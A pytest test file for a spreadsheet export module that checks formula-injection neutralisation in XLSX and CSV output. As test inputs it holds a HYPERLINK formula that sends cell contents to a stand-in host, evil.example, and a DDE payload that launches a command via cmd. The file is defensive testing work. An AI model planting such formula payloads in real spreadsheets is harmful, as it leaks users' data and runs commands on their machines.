"""The one writer of XLSX and CSV: formulas neutralised the OWASP way, identifiers text, numbers numbers."""

import csv
import io

import pytest
from openpyxl import load_workbook

from betang.core.spreadsheet import csv_write, neutralise, xlsx

ATTACK = '=HYPERLINK("http://evil.example/?"&A2,"Klik")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (ATTACK, "'" + ATTACK),
        ("+62 813 5555 1212", "'+62 813 5555 1212"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Budi Santoso", "Budi Santoso"),
        ("6203011203800003", "6203011203800003"),
        ("", ""),
        (-1, -1),
        (250_000, 250_000),
        (None, None),
    ],
)
def test_neutralise_quotes_text_that_starts_like_a_formula_and_nothing_else(value, expected):
    assert neutralise(value) == expected


def test_xlsx_cells_starting_like_formulas_come_back_as_quoted_text_never_formulas():
    content = xlsx(
        ["Nama", "NIK", "Jumlah", ATTACK],
        [[ATTACK, "=1+1", -5, "-1+1"], ["@cmd", "6203011203800003", 7, "+62 812"]],
        text_columns={1},
        title="Uji",
    )
    sheet = load_workbook(io.BytesIO(content)).active
    texts = [sheet["A2"], sheet["B2"], sheet["D2"], sheet["A3"], sheet["D3"], sheet["D1"]]
    assert [c.value for c in texts] == ["'" + ATTACK, "'=1+1", "'-1+1", "'@cmd", "'+62 812", "'" + ATTACK]
    assert {c.data_type for c in texts} == {"s"}
    assert sheet["B3"].value == "6203011203800003"
    assert sheet["B3"].data_type == "s"
    assert sheet["B3"].number_format == "@"
    assert (sheet["C2"].value, sheet["C2"].data_type) == (-5, "n")  # a negative number stays a number
    assert (sheet["C3"].value, sheet["C3"].data_type) == (7, "n")


def test_csv_text_starting_like_a_formula_is_quoted_and_numbers_are_not():
    out = io.StringIO()
    csv_write(out, [["kartu", "catatan", "saldo"], ["6201000000000001", ATTACK, -3], ["6201000000000002", "-1+1", 5]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [
        ["kartu", "catatan", "saldo"],
        ["6201000000000001", "'" + ATTACK, "-3"],
        ["6201000000000002", "'-1+1", "5"],
    ]


def test_csv_with_another_delimiter_neutralises_too():
    out = io.StringIO()
    csv_write(out, [["Tanggal", "Keterangan"], ["01/12/2026", "=cmd|' /C calc'!A0"]], delimiter=";")
    assert out.getvalue() == "Tanggal;Keterangan\n01/12/2026;'=cmd|' /C calc'!A0\n"


def test_xlsx_text_is_escaped_spaced_and_dated_as_openpyxl_reads_it():
    from datetime import date

    content = xlsx(
        ["Nama", "Tanggal"],
        [["  Budi <&> Siti ", date(2026, 1, 2)], ["a\x01b\x0c", None], ["-", 3.5]],
        text_columns=set(),
        title="Baris [ditolak]: a/b",
    )
    book = load_workbook(io.BytesIO(content))
    sheet = book.active
    assert sheet.title == "Baris -ditolak-- a-b"
    assert sheet["A1"].font.b
    assert [sheet["A2"].value, sheet["A3"].value, sheet["A4"].value] == ["  Budi <&> Siti ", "ab", "'-"]
    assert sheet["B2"].is_date
    assert sheet["B2"].value.date() == date(2026, 1, 2)
    assert (sheet["B3"].value, sheet["B4"].value) == (None, 3.5)
